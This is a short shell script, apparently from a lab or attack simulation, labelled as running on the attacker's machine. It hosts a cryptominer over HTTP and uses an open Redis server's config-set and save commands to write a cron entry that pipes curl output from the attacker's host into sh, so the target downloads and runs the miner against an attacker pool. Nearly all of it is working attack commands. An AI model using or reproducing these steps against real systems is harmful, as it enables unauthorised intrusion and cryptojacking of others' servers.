# On the attacker's machine.
mkdir -p /srv/drop/api
cp /run/payload/miner /srv/drop/m
cat >"/srv/drop/api/$REPORT" <<END
curl -fsSL http://$ATTACKER/m -o $MINER
chmod +x $MINER
pgrep -f $MINER >/dev/null || $MINER -B -o $STRATUM://$ATTACKER:$POOL -u 44wallet
END
serve drop python3 -m http.server 80 --directory /srv/drop
serve pool python3 /run/payload/pool.py "$POOL"
wait_for 30 curl -fsS "http://$ATTACKER/api/$REPORT"

redis() { redis-cli -h "$SERVER" -p "$PORT" "$@" | grep -qx OK; }
redis set x $'\n\n'"$SCHEDULE curl -fsSL $URL | sh"$'\n\n'
# Attackers know that the text must stay as it is.
redis config set rdbcompression no
redis config set dir "${TABLE%/*}"
redis config set dbfilename "${TABLE##*/}"
redis save
